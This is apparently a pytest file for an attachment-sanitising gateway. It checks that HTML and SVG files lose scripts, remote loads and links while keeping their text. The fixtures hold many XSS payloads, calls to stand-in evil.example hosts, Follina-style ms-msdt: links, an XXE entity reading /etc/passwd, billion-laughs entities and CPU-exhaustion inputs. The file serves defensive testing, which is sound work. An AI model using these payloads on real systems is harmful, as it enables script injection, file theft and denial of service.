"""HTML (nh3) and SVG (defusedxml) attachments: exact findings, lxml as the independent check."""

from __future__ import annotations

import base64
import email
from pathlib import Path

import lxml.etree
import lxml.html
import pytest

import gateway.stages.html
import gateway.stages.svg  # registers the stages (and MAX_ELEMENTS, patched below)
from gateway.models import Verdict
from gateway.pipeline.run import process_file
from gateway.policy import load
from tests.conftest import corpus_dir
from tests.helpers.markupcheck import html_problems, html_text, svg_problems
from tests.helpers.pipeline import keys, run, run_in_worker

DEFAULT, STRICT = load("default"), load("strict")

PAGE = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>お知らせ</title>
<script src="https://evil.example/x.js"></script>
<link rel="stylesheet" href="https://evil.example/s.css">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<style>body { background: url(https://track.example/p.gif) }</style>
</head>
<body onload="steal()">
<h1>住民税の申告について</h1>
<p style="color: red; background-image: url(https://track.example/b.gif)">期限は3月15日です。</p>
<p><a href="https://www.city.example.lg.jp/zei">詳しくはこちら</a>
<a href="javascript:alert(1)">クリック</a></p>
<img src="https://track.example/pixel.gif" width="1" height="1">
<img src="data:image/png;base64,iVBORw0KGgo=" alt="logo">
<iframe src="https://evil.example/frame"></iframe>
<form action="https://evil.example/post"><input name="pw" type="password"></form>
<noscript><img src="https://track.example/ns.gif"></noscript>
<p>以上</p>
</body></html>
"""




def test_html_page(tmp_path: Path) -> None:
    report, out = run(tmp_path, PAGE.encode(), "notice.html")
    assert report.verdict is Verdict.DISARMED
    assert keys(report) == {
        ("html.script", "script[0]"),
        ("html.remote_resource", "link[0]"),
        ("html.meta_refresh", "meta[1]"),
        ("html.remote_resource", "style[0]"),
        ("html.event_handler", "body[0]@onload"),
        ("html.remote_resource", "p[0]@style"),
        ("html.hyperlink", "a[0]@href"),
        ("html.javascript_url", "a[1]@href"),
        ("html.remote_resource", "img[0]@src"),
        ("html.frame", "iframe[0]"),
        ("html.form", "form[0]"),
        ("html.form", "input[0]"),
        ("html.remote_resource", "img[2]@src"),
    }
    link = next(f for f in report.items[0].findings if f.location == "a[0]@href")
    assert link.action == "removed"  # the default policy takes web links out
    assert "https://www.city.example.lg.jp/zei" in link.detail
    assert html_problems(out) == []
    text = html_text(out)
    for phrase in ("住民税の申告について", "期限は3月15日です。", "詳しくはこちら", "以上"):
        assert phrase in text
    html = out.read_text(encoding="utf-8")
    assert "href=" not in html
    assert "<title>お知らせ</title>" in html
    assert 'src="data:image/png;base64,iVBORw0KGgo="' in html


def test_html_file_libmagic_calls_text_is_sanitized(tmp_path: Path) -> None:
    """A .html file whose first lines are plain text: libmagic says text/plain, a browser
    renders it as HTML. It was delivered unchanged, <img onerror> and all."""
    data = ("お知らせ: 住民税の申告について\n期限は3月15日です。\n"
            "<img src=x onerror=alert(1)><p>以上</p>\n").encode()
    report, out = run(tmp_path, data, "notice.html")
    assert report.verdict is Verdict.DISARMED
    assert keys(report) == {("html.event_handler", "img[0]@onerror"),
                            ("html.remote_resource", "img[0]@src")}
    assert html_problems(out) == []
    text = html_text(out)
    assert "期限は3月15日です。" in text and "以上" in text


def test_plugin_fallback_text_stays(tmp_path: Path) -> None:
    """What a browser shows for an <object> or <applet> it cannot run is its content:
    the element goes, the fallback text stays (it was dropped with the element)."""
    page = (b"<html><body><p>Intro</p><object data='clip.swf'><param name='movie' "
            b"value='clip.swf'><p>\xe5\x8b\x95\xe7\x94\xbb\xe3\x81\xae\xe4\xbb\xa3\xe6"
            b"\x9b\xbf\xe3\x83\x86\xe3\x82\xad\xe3\x82\xb9\xe3\x83\x88</p>"
            b"<embed src='clip.swf'></object><applet code='A.class'>Java fallback"
            b"<script>alert(1)</script></applet></body></html>")
    report, out = run(tmp_path, page, "page.html")
    assert report.verdict is Verdict.DISARMED
    assert keys(report) == {("html.frame", "object[0]"), ("html.frame", "embed[0]"),
                            ("html.frame", "applet[0]"), ("html.script", "script[0]")}
    assert html_problems(out) == []
    text = html_text(out)
    assert "動画の代替テキスト" in text and "Java fallback" in text and "alert" not in text


def test_unknown_marked_section_is_no_internal_error(tmp_path: Path) -> None:
    """``<![CD…`` made the standard library's HTMLParser raise AssertionError (found by
    mutating fixtures); browsers read a bogus comment up to the next ``>``."""
    report, out = run(tmp_path, b"<p>a<![CD<x>b</p><script>alert(1)</script>", "m.html")
    assert report.verdict is Verdict.DISARMED
    assert keys(report) == {("html.script", "script[0]")}
    assert html_problems(out) == [] and "alert" not in html_text(out)


def test_svg_with_an_unknown_encoding_is_blocked_cleanly(tmp_path: Path) -> None:
    report, out = run(tmp_path, b'<?xml version="1.0" encoding="UTF-1U"?><svg/>', "x.svg")
    assert report.verdict is Verdict.BLOCKED and not out.exists()
    assert (report.reason or "").startswith("SVG declares an unknown encoding")


def test_xhtml_page_with_an_xml_declaration_is_html(tmp_path: Path) -> None:
    """libmagic calls it text/xml: it was delivered as plain text, script and all."""
    page = (b'<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML '
            b'1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">\n'
            b'<html xmlns="http://www.w3.org/1999/xhtml"><head><title>t</title></head>'
            b"<body><p>\xe5\xb8\x82</p><script>alert(1)</script></body></html>")
    report, out = run(tmp_path, page, "page.html")
    assert report.input.type == "html"
    assert report.verdict is Verdict.DISARMED
    assert keys(report) == {("html.script", "script[0]")}
    assert html_problems(out) == []
    assert "市" in html_text(out)


def test_html_links_removed_under_strict(tmp_path: Path) -> None:
    report, out = run(tmp_path, PAGE.encode(), "notice.html", policy=STRICT)
    assert report.verdict is Verdict.DISARMED
    assert ("html.hyperlink", "a[0]@href") in keys(report)
    assert html_problems(out, allow_links=False) == []
    assert "詳しくはこちら" in html_text(out)


@pytest.mark.parametrize("policy", [DEFAULT, STRICT], ids=["default", "strict"])
def test_html_links_to_other_places_are_reported(tmp_path: Path, policy: object) -> None:
    """Links that open a program or a share (Follina's ms-msdt:, search-ms:, file:, a
    UNC path, a relative path) were taken out without a word in the report."""
    page = ('<p><a href="ms-msdt:/id PCWDiagnostic /skip force">one</a>'
            '<a href="search-ms:query=invoice&amp;crumb=location:\\\\evil.example\\s">two</a>'
            '<a href="file://evil.example/share/x.lnk">three</a>'
            '<a href="\\\\evil.example\\share">four</a>'
            '<a href="invoice.html">five</a><a href="#top">six</a></p>')
    report, out = run(tmp_path, page.encode(), "links.html", policy=policy)
    assert report.verdict is Verdict.DISARMED
    assert keys(report) == {("html.hyperlink", f"a[{i}]@href") for i in range(5)}
    details = [f.detail for f in report.items[0].findings]
    assert details == ["link to a ms-msdt address (ms-msdt:/id PCWDiagnostic /skip force)",
                       "link to a search-ms address "
                       "(search-ms:query=invoice&crumb=location:\\\\evil.example\\s)",
                       "link to a file address (file://evil.example/share/x.lnk)",
                       "link to a UNC path (\\\\evil.example\\share)",
                       "link to a relative path (invoice.html)"]
    assert {f.action for f in report.items[0].findings} == {"removed"}
    html = out.read_text(encoding="utf-8")
    assert html.count("href=") == 1 and 'href="#top"' in html
    assert html_problems(out) == []
    assert all(word in html_text(out) for word in ("one", "two", "three", "four", "five"))


@pytest.mark.parametrize("tail", ["<a" * 250_000, "<body" * 100_000,
                                  "<title>" + "<title" * 100_000, "<meta" * 100_000],
                         ids=["a", "body", "title", "meta"])
def test_unterminated_tags_at_the_end_cost_linear_time(tmp_path: Path, tail: str) -> None:
    """0.5 MB of ``<a<a<a…`` with no ``>`` after it: the standard library's HTMLParser
    (Python before 3.11.13, CVE-2025-6069) rescans the rest for every ``<``, about 90 s
    of CPU, so a page or mail body like this used up a job's whole CPU allowance; the
    patterns that found <body> and <title> backtracked over the rest at every "<body"
    (13 s). Run in a worker held to 5 s of CPU, as the daemon runs it: it is disarmed
    well inside that."""
    page = "<p>本文です</p>" + tail
    mail = ("From: a@example.com\r\nTo: b@example.lg.jp\r\nSubject: x\r\n"
            "MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + page)
    for name, data in (("page.html", page), ("mail.eml", mail)):
        report, out = run_in_worker(tmp_path, data.encode("utf-8"), name)
        assert report.verdict.delivered, report.reason
        if name == "mail.eml":
            body = email.message_from_bytes(out.read_bytes()).get_payload(decode=True)
            assert "本文です" in body.decode("utf-8")
        else:
            assert "本文です" in out.read_text(encoding="utf-8")


def test_html_shift_jis_is_read_without_mojibake(tmp_path: Path) -> None:
    page = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=Shift_JIS">'
            "</head><body><p>髙橋様　①㈱ご確認ください</p></body></html>")
    report, out = run(tmp_path, page.encode("cp932"), "sjis.html")
    assert report.verdict is Verdict.CLEAN
    assert "髙橋様　①㈱ご確認ください" in out.read_text(encoding="utf-8")


def test_clean_html_stays_clean(tmp_path: Path) -> None:
    page = ("<html><body><p>こんにちは <b>世界</b></p>"
            "<table><tr><td>1</td></tr></table></body></html>")
    report, out = run(tmp_path, page.encode(), "ok.html")
    assert report.verdict is Verdict.CLEAN
    assert html_text(out) == "こんにちは 世界1"


def test_inline_svg_and_mathml_go_and_the_text_they_show_stays(tmp_path: Path) -> None:
    """Inline <svg> and <math> go (nh3 cannot judge them: scripts, links, animations) and
    are reported; the text they show (a chart's labels, a formula's symbols) stays as
    plain text, a foreignObject's HTML text too. Their titles, descriptions and scripts
    are not shown, and stay out."""
    page = ("<html><body><p>前</p><svg><title>tooltip</title><text>図の説明</text>"
            "<script>alert(1)</script><a href=\"javascript:alert(2)\"><text>押す<tspan>"
            "ここ</tspan></text></a><defs><text id=\"t\">unused</text></defs></svg>"
            "<math><mi>x</mi><mo>=</mo><mn>42</mn><annotation>x=42 TeX</annotation></math>"
            "<svg><foreignObject><div>枠内<script>alert(3)</script></div></foreignObject></svg>"
            "<p>後</p><svg><text>unclosed</body></html>")
    report, out = run(tmp_path, page.encode(), "page.html")
    assert report.verdict is Verdict.DISARMED
    assert keys(report) == {("html.embedded_markup", "svg[0]"), ("html.embedded_markup", "svg[1]"),
                            ("html.embedded_markup", "svg[2]"), ("html.embedded_markup", "math[0]"),
                            ("html.script", "script[0]"), ("html.script", "script[1]"),
                            ("html.javascript_url", "a[0]@href")}
    assert html_text(out) == "前図の説明 押すここx = 42枠内後"
    assert html_problems(out) == []
    data = out.read_bytes()
    assert b"alert" not in data and b"tooltip" not in data and b"unused" not in data


@pytest.mark.parametrize(("page", "text"), [
    # PayloadsAllTheThings' XML attack lines inside a page: an unclosed <xml> took the
    # rest of the page with it, silently
    ('<p>alpha</p><xml version="1.0"><p>omega paragraph</p>', "alphaomega paragraph"),
    # custom elements named like SVG/MathML ones, outside <svg>: browsers show their text
    ("<p>alpha</p><change-log><text>Hello World</text></change-log><p>omega</p>",
     "alphaHello Worldomega"),
    ("<ul><g>一</g><desc>二</desc><mi>三</mi><TSpan>四</TSpan></ul>", "一二三四"),
])
def test_text_of_elements_nh3_drops_by_name_stays(tmp_path: Path, page: str,
                                                  text: str) -> None:
    """Unknown elements a browser shows the text of (<xml>, and <text>, <g>, <desc>, <mi>
    outside <svg> and <math>, which nh3 drops whole by name) are unwrapped like any other
    unknown element; script inside them still goes."""
    body = f"<html><body>{page}<x-y><text><script>alert(1)</script></text></x-y></body></html>"
    report, out = run(tmp_path, body.encode(), "page.html")
    assert ("html.script", "script[0]") in keys(report)
    assert html_text(out) == text
    assert html_problems(out) == []
    assert b"alert" not in out.read_bytes()


@pytest.mark.parametrize(("data", "text"), [
    # Tika's testHTML_utf8.html saved in Latin-1, no charset declared
    ("<html><body><p>Content with chars åäö</p></body></html>".encode("latin-1"),
     "Content with chars åäö"),
    ("<html><body><p>日本語のテキストです。関所</p></body></html>".encode("iso-2022-jp"),
     "日本語のテキストです。関所"),
    ("<html><body><p>Grüße – €5</p></body></html>".encode("cp1252"), "Grüße – €5"),
    # Shift_JIS with a stray byte (a vendor's own character): Japanese, not windows-1252
    ("<html><body><p>日本語のテキストです。よろしくお願いします。</p></body></html>"
     .encode("cp932").replace("です".encode("cp932"), b"\x81\x20"),
     "日本語のテキスト\ufffd 。よろしくお願いします。"),
])
def test_undeclared_charset_is_read_as_browsers_read_it(tmp_path: Path, data: bytes,
                                                        text: str) -> None:
    """Without a charset declaration, ISO-2022-JP is known by its escape sequences (they
    were stripped, leaving "$BF|K\\8l"), and 8-bit text that is no UTF-8 or Japanese
    encoding is windows-1252, browsers' fallback (it became replacement characters)."""
    report, out = run(tmp_path, data, "page.html")
    assert report.verdict.delivered
    assert html_text(out) == text


def test_html_breaking_out_of_inline_svg_stays_html(tmp_path: Path) -> None:
    """An HTML element such as <p> or <br> inside <svg> (outside a foreignObject) ends
    the drawing when HTML is parsed: what follows is HTML a browser shows, and it stays
    (it went with the drawing); a foreignObject's <p> stays inside the drawing."""
    page = ("<html><body><svg><text>T</text><p>broke out</p><text>after</text></svg>"
            "<svg><foreignObject><p>inside</p></foreignObject><text>U</text></svg>"
            "</body></html>")
    report, out = run(tmp_path, page.encode(), "page.html")
    assert report.verdict is Verdict.DISARMED
    assert html_text(out) == "Tbroke outafterinside U"
    assert html_problems(out) == []


@pytest.mark.parametrize(("page", "text"), [
    ('<p title="<svg>x</svg>">Important text</p><p>more words</p>',
     "Important textmore words"),
    ("<!-- <svg> -->Commented svg then text<svg><text>lbl</text></svg>",
     "Commented svg then textlbl"),
    ('<script>var s = "<svg>";</script>Script then text<svg><text>lbl</text></svg>',
     "Script then textlbl"),
    ("<textarea><svg></textarea>After textarea<svg><text>lbl</text></svg>",
     "<svg>After textarealbl"),
    ('<p>Hello <svg/> <a href="#x">link text</a> world</p><p>Section text</p>',
     "Hello link text worldSection text"),
    ("<svg><desc>d</desc><p>Para after desc</p></svg>", "Para after desc"),
    ('<svg><font color="red">Font breakout words</font></svg>', "Font breakout words"),
    ('<a title="<text>x</text>">T</a>', "T"),
])
def test_svg_tags_are_only_looked_for_where_html_has_tags(tmp_path: Path, page: str,
                                                         text: str) -> None:
    """"<svg>" in an attribute value, a comment, a script string or a textarea, and an
    empty <svg/>, opened no drawing, yet the text up to the next </svg> went with one;
    a closed <desc> kept a following <p> inside the drawing; <font color> breaks out
    too (found by fuzzing)."""
    report, out = run(tmp_path, f"<html><body>{page}</body></html>".encode(), "page.html")
    assert report.verdict.delivered
    assert html_text(out) == text
    assert b"x-text" not in out.read_bytes()
    assert html_problems(out) == []


@pytest.mark.parametrize(("unit", "letter"), [("<svg><p>x</p>", "x"), ("<math><br>y", "y"),
                                             ("<svg><desc></desc><p>z</p>", "z")])
def test_inline_svg_blocks_cost_linear_time(tmp_path: Path, unit: str, letter: str) -> None:
    """Many drawings an HTML element breaks out of, one end tag at the end: each drawing
    searched to the end of the page for it (1 MB took 35 s). In a worker held to 5 s
    of CPU, as the daemon runs a job."""
    page = "<html><body>" + unit * 80_000 + "</svg></math></body></html>"
    report, out = run_in_worker(tmp_path, page.encode(), "page.html")
    assert report.verdict.delivered, report.reason
    assert html_text(out).count(letter) == 80_000   # the text HTML parsing took out


def test_hidden_text_stays_hidden_and_open_details_open(tmp_path: Path) -> None:
    """``hidden`` was dropped, so text the author hid was shown, and ``<details open>``
    lost ``open``, so its text came out collapsed (beside PortSwigger's payloads)."""
    page = ("<html><body><p hidden>下書きメモ</p><details open><summary>質問</summary>"
            "<p>回答</p></details></body></html>")
    report, out = run(tmp_path, page.encode(), "faq.html")
    assert report.verdict is Verdict.CLEAN
    root = lxml.html.parse(str(out)).getroot()
    assert root.xpath("//p[@hidden]")[0].text == "下書きメモ"
    assert root.xpath("//details")[0].get("open") is not None


@pytest.mark.parametrize("page", [
    # rspamd's urlimage.eml: the only text sits between the head and the body
    "<html><head><title>件名</title></head>お知らせ本文<body><p>以上</p></body></html>",
    # text in the head itself: HTML parsing opens the body there, browsers show it
    "<html><head><title>件名</title><style>p{color:red}</style>お知らせ本文"
    "<script>alert(1)</script><noscript>x</noscript></head><body><p>以上</p></body></html>",
    "<html><head><title>件名</title>お知らせ本文<meta charset=utf-8></head><p>以上</p></html>",
])
def test_text_before_the_body_is_kept(tmp_path: Path, page: str) -> None:
    report, out = run(tmp_path, page.encode(), "page.html")
    assert report.verdict.delivered
    assert html_text(out) == "お知らせ本文以上"  # title, style, script, noscript: not shown
    assert "<title>件名</title>" in out.read_text(encoding="utf-8")
    assert not html_problems(out)


SVG = b"""<?xml version="1.0" encoding="UTF-8"?>
<?xml-stylesheet href="https://evil.example/s.css" type="text/css"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
     width="100" height="100" onload="alert(1)">
  <script>alert(2)</script>
  <style>@import url(https://evil.example/x.css);</style>
  <defs><linearGradient id="g"><stop offset="0" stop-color="red"/></linearGradient></defs>
  <rect width="100" height="100" fill="url(#g)"/>
  <circle cx="5" cy="5" r="4" fill="url(https://track.example/p)"/>
  <image xlink:href="https://track.example/i.png" width="10" height="10"/>
  <image href="data:image/png;base64,iVBORw0KGgo=" width="10" height="10"/>
  <use xlink:href="#g"/>
  <a xlink:href="javascript:alert(3)"><text x="1" y="20">click</text></a>
  <a href="https://www.city.example.lg.jp/">
    <text x="1" y="40">\xe5\xb8\x82\xe5\xbd\xb9\xe6\x89\x80</text></a>
  <set attributeName="href" to="javascript:alert(4)"/>
  <foreignObject width="10" height="10">
    <iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"/></foreignObject>
</svg>
"""


def test_svg(tmp_path: Path) -> None:
    report, out = run(tmp_path, SVG, "map.svg")
    assert report.verdict is Verdict.DISARMED
    assert keys(report) == {
        ("svg.processing_instruction", "?xml-stylesheet"),
        ("svg.event_handler", "svg[root]@onload"),
        ("svg.script", "script[0]"),
        ("svg.stylesheet", "style[0]"),
        ("svg.external_reference", "circle[0]@fill"),
        ("svg.external_reference", "image[0]@xlink:href"),
        ("svg.javascript_url", "a[0]@xlink:href"),
        ("svg.hyperlink", "a[1]@href"),
        ("svg.animation", "set[0]"),
        ("svg.foreign_object", "foreignObject[0]"),
    }
    link = next(f for f in report.items[0].findings if f.kind == "svg.hyperlink")
    assert link.action == "removed" and link.detail.startswith("link to http")
    assert link.detail.endswith(", removed by policy")
    assert svg_problems(out) == []
    text = out.read_text(encoding="utf-8")
    assert "市役所" in text and 'fill="url(#g)"' in text and 'xlink:href="#g"' in text


def test_svg_animation_of_href_under_any_prefix_is_removed(tmp_path: Path) -> None:
    """An animation of xlink:href under another prefix (x:href), or a script URL with a
    tab in it, or in the middle of a values list, was not recognised (found by a
    probe beside the resvg suite; the output was safe only because the prefix was
    dropped when the file was written)."""
    payload = (b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink"'
               b' width="9" height="9"><a x:href="#a">'
               b'<set attributeName="x:href" to="https://example.com/"/>'
               b'<animate attributeName="fill" values="red;javas&#x09;cript:alert(2)"/>'
               b'<rect width="5" height="5"/></a></svg>')
    report, out = run(tmp_path, payload, "anim.svg")
    assert keys(report) == {("svg.animation", "set[0]"), ("svg.animation", "animate[0]")}
    assert b"<set" not in out.read_bytes() and b"<animate" not in out.read_bytes()


def test_svg_masks_and_cursors_from_image_set_are_removed(tmp_path: Path) -> None:
    """mask="image-set('http://...' 1x)" (no url() in it), and a <set> giving a mask or a
    cursor such a value, fetched the picture in Chromium (PortSwigger's XSS cheat sheet
    variants); they were kept, verdict clean."""
    payload = (b"<svg xmlns='http://www.w3.org/2000/svg' width='200' height='100'>"
               b"<text y='20'>hello</text><rect y='30' width='50' height='50' "
               b'mask="image-set(\'http://127.0.0.1:9/m.png\' 1x)"/>'
               b"<rect width='50' height='50'><set attributeName='mask' "
               b'to="-webkit-image-set(\'http://127.0.0.1:9/s.png\' 1x)"/>'
               b"<set attributeName='cursor' "
               b'to="image-set(\'http://127.0.0.1:9/c.png\' 1x), auto"/></rect></svg>')
    report, out = run(tmp_path, payload, "mask.svg")
    assert keys(report) == {("svg.external_reference", "rect[0]@mask"),
                            ("svg.animation", "set[0]"), ("svg.animation", "set[1]")}
    assert svg_problems(out) == []
    assert b"hello" in out.read_bytes()


def test_svg_filter_picture_from_a_data_url_is_kept(tmp_path: Path) -> None:
    """resvg's filters/feImage tests: an feImage's data:image/png picture was removed as
    a script URL; it is a picture, as in <image>."""
    png = (b"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4"
           b"2mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg==")
    payload = (b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/'
               b'xlink" width="9" height="9"><filter id="f"><feImage xlink:href="' + png
               + b'"/></filter><rect width="5" height="5" filter="url(#f)"/></svg>')
    report, out = run(tmp_path, payload, "filter.svg")
    assert report.verdict is Verdict.CLEAN
    assert png in out.read_bytes()


def test_svg_picture_inside_an_svg_is_disarmed_not_removed(tmp_path: Path) -> None:
    """resvg's structure/image/embedded-svg*.svg: an <image> of data:image/svg+xml was
    removed as a script URL, so the drawing lost the picture. It is disarmed as an SVG
    of its own: a clean one stays as it was, one with a script comes back without."""
    clean = (b'<svg xmlns="http://www.w3.org/2000/svg" width="4" height="4">'
             b'<rect width="4" height="4"/></svg>')
    active = clean.replace(b"<rect", b"<script>alert(1)</script><rect")
    plain = "data:image/svg+xml;base64," + base64.b64encode(clean).decode()
    payload = (b'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">'
               b'<image width="4" height="4" href="' + plain.encode() + b'"/>'
               b'<image width="4" height="4" href="data:image/svg+xml;utf8,'
               + active.replace(b"<", b"%3C").replace(b">", b"%3E").replace(b'"', b"%22")
               + b'"/></svg>')
    report, out = run(tmp_path, payload, "pictures.svg")
    assert report.verdict is Verdict.DISARMED
    assert keys(report) == {("svg.embedded_picture", "image[1]@href")}
    root = lxml.etree.fromstring(out.read_bytes())
    hrefs = [e.get("href") for e in root.iter("{http://www.w3.org/2000/svg}image")]
    assert hrefs[0] == plain
    nested = base64.b64decode(hrefs[1].split(",", 1)[1])
    assert b"<script" not in nested and b"<rect" in nested
    assert lxml.etree.fromstring(nested) is not None


SVG_NS = b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'


@pytest.mark.parametrize(("name", "payload", "found"), [
    # CSS decodes escapes before it parses: these load from elsewhere in a browser
    ("import.svg", SVG_NS + b'<style>@\\69mport "https://evil.example/x.css";</style>'
     b'<rect width="5" height="5"/></svg>', ("svg.stylesheet", "style[0]")),
    ("style.svg", SVG_NS + b'<rect width="5" height="5" style="mask:u\\72l(https://evil.'
     b'example/m)"/></svg>', ("svg.stylesheet", "rect[0]@style")),
    ("fill.svg", SVG_NS + b'<rect width="5" height="5" fill="u\\rl(https://evil.example/f)"/>'
     b"</svg>", ("svg.external_reference", "rect[0]@fill")),
    ("page.html", b'<html><body><p style="background:u\\72l(https://evil.example/b)">text'
     b"</p></body></html>", ("html.remote_resource", "p[0]@style")),
])
def test_css_escapes_do_not_hide_a_load(tmp_path: Path, name: str, payload: bytes,
                                        found: tuple[str, str]) -> None:
    """Found with the librsvg/resvg suites' companions: the checks matched "url(" and
    "@import" as written, so "u\\72l(" and "@\\69mport" kept their loads, verdict
    clean."""
    report, out = run(tmp_path, payload, name)
    assert report.verdict is Verdict.DISARMED
    assert found in keys(report)
    text = out.read_text(encoding="utf-8")
    assert "evil.example" not in text
    assert "<rect" in text or ">text<" in text  # the rest is still there


@pytest.mark.parametrize(("payload", "detail"), [
    (b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
     b'<svg xmlns="http://www.w3.org/2000/svg"><text>a&x;b</text></svg>',
     "declares an external XML entity (XXE: reads files or URLs); "
     "1 entity reference(s) removed"),
    (b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
     b'<svg xmlns="http://www.w3.org/2000/svg"><text>a&b;b</text></svg>',
     "declares nested XML entities (entity expansion, 'billion laughs'); "
     "1 entity reference(s) removed"),
])
def test_svg_attack_entities_are_removed(tmp_path: Path, payload: bytes, detail: str) -> None:
    report, out = run(tmp_path, payload, "x.svg")
    assert report.verdict is Verdict.DISARMED
    assert keys(report) == {("xml.dtd", "!DOCTYPE")}
    assert report.items[0].findings[0].detail == detail
    data = out.read_bytes()
    assert b"<!DOCTYPE" not in data and b"<!ENTITY" not in data and b"aaaa" not in data
    assert svg_problems(out) == []
    assert "".join(lxml.etree.parse(str(out)).getroot().itertext()) == "ab"


_H = 'xmlns="http://www.w3.org/1999/xhtml"'


@pytest.mark.parametrize(("body", "removed"), [
    # found with DOMPurify's payloads made into drawings, each confirmed in Chromium:
    # a frame runs its javascript: URL on load, in the page's origin
    (f'<frame {_H} src="javascript:alert(parent.document.URL)"/>',
     {("svg.foreign_object", "frame[0]")}),
    (f'<frameset {_H}><frame src="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"/>'
     "</frameset>", {("svg.foreign_object", "frameset[0]")}),
    # a refreshing meta navigates away; an HTML picture loads from elsewhere
    (f'<meta {_H} http-equiv="refresh" content="0;url=https://example.org/"/>',
     {("svg.foreign_object", "meta[0]")}),
    ('<g><h:img xmlns:h="http://www.w3.org/1999/xhtml" src="https://example.org/p.png"/></g>',
     {("svg.foreign_object", "img[0]")}),
    # CSS image-set() loads from a quoted string, no url() needed
    ('<style>svg{background:image-set("https://example.org/a.png" 1x)}</style>',
     {("svg.stylesheet", "style[0]")}),
    ('<rect style="background:-webkit-image-set(\'https://example.org/a.png\' 1x)"/>',
     {("svg.stylesheet", "rect[0]@style")}),
    # SVG 2 links may ping an address when followed
    ('<a href="#top" ping="https://example.org/track"><text>x</text></a>',
     {("svg.external_reference", "a[0]@ping")}),
])
def test_svg_html_inside_the_drawing_is_removed(tmp_path: Path, body: str,
                                                removed: set[tuple[str, str]]) -> None:
    """Only <foreignObject> was taken as HTML: an XHTML element anywhere else in the
    drawing stayed, and a browser built and ran it as HTML."""
    payload = (f'<svg xmlns="http://www.w3.org/2000/svg">{body}'
               '<text y="20">市役所</text></svg>').encode()
    report, out = run(tmp_path, payload, "x.svg")
    assert report.verdict is Verdict.DISARMED
    assert keys(report) == removed
    root = lxml.etree.parse(str(out)).getroot()
    assert not [el for el in root.iter() if isinstance(el.tag, str)
                and el.tag.startswith("{http://www.w3.org/1999/xhtml}")]
    assert svg_problems(out) == []
    assert "".join(root.itertext()).endswith("市役所")


@pytest.mark.parametrize("ns", ['xmlns="http://www.w3.org/2000/svg" ', ""])
def test_svg_foreign_object_goes_and_its_text_stays(tmp_path: Path, ns: str) -> None:
    """A foreignObject (HTML in the drawing) goes; the text it showed stays as drawing
    text where it was (it was lost: an empty drawing). Its script does not."""
    payload = (f'<svg {ns}width="200" height="60"><foreignObject x="5" y="7" width="200" '
               'height="60"><div xmlns="http://www.w3.org/1999/xhtml">四半期合計: <b>1234</b>'
               "<script>alert(1)</script><select><option>hidden</option></select></div>"
               '</foreignObject><text y="50">市役所</text></svg>').encode()
    report, out = run(tmp_path, payload, "chart.svg")
    assert report.verdict is Verdict.DISARMED
    assert keys(report) == {("svg.foreign_object", "foreignObject[0]")}
    root = lxml.etree.parse(str(out)).getroot()
    texts = [(el.get("x"), el.get("y"), "".join(el.itertext())) for el in root.iter()
             if isinstance(el.tag, str) and el.tag.rsplit("}", 1)[-1] == "text"]
    assert texts == [("5", "7", "四半期合計: 1234"), (None, "50", "市役所")]
    assert svg_problems(out) == []
    assert b"alert" not in out.read_bytes() and b"hidden" not in out.read_bytes()


@pytest.mark.parametrize(("name", "payload"), [
    ("fo.svg", '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><div xmlns='
               '"http://www.w3.org/1999/xhtml">me onclick="javascript:alert(1)" &gt;x</div>'
               '</foreignObject><text y="20">keep</text></svg>'),
    ("inline.html", "<html><body><p>keep</p><svg><text>&lt;img src=x onerror=alert(1)&gt;"
                    "</text></svg></body></html>"),
])
def test_text_that_reads_like_a_script_is_not_moved_out_of_a_drawing(
        tmp_path: Path, name: str, payload: str) -> None:
    """Text kept from an element that goes (a foreignObject, an inline SVG) is left out
    when it reads like markup with a script in it (XSS test vectors): inert, but a
    checker grepping for handlers or javascript: would see it in the output."""
    report, out = run(tmp_path, payload.encode(), name)
    assert report.verdict is Verdict.DISARMED
    data = out.read_bytes()
    assert b"keep" in data
    assert b"alert" not in data and b"onclick" not in data and b"onerror" not in data


def test_svg_of_too_many_elements_is_refused_early(tmp_path: Path,
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    """librsvg's bug-515 fixture (a 40 kB .svgz of two million <rect/>, which librsvg
    refuses to draw) took 20 s; a drawing over MAX_ELEMENTS is refused as a limit."""
    monkeypatch.setattr(gateway.stages.svg, "MAX_ELEMENTS", 1000)
    body = '<svg xmlns="http://www.w3.org/2000/svg"><g>' + "<rect/>" * 999 + "</g></svg>"
    report, _ = run(tmp_path, body.encode(), "ok.svg")
    assert report.verdict is Verdict.CLEAN                     # 1000 elements below <svg>
    body = body.replace("<rect/>", "<rect/><rect/>", 1)
    report, out = run(tmp_path, body.encode(), "many.svg")
    assert report.verdict is Verdict.BLOCKED and not out.exists()
    assert keys(report) == {("block.limit", "")}


@pytest.mark.parametrize("unit", ["<script/>", "<foreignObject><div xmlns="
                                  '"http://www.w3.org/1999/xhtml">w</div></foreignObject>'])
def test_svg_removals_cost_linear_time(tmp_path: Path, unit: str) -> None:
    """Each removed element copied its parent's child list (1 MB of <script/> took 26 s);
    in a worker held to 5 s of CPU, as the daemon runs a job."""
    data = ('<svg xmlns="http://www.w3.org/2000/svg">' + unit * 60_000 + "</svg>").encode()
    report, out = run_in_worker(tmp_path, data, "many.svg")
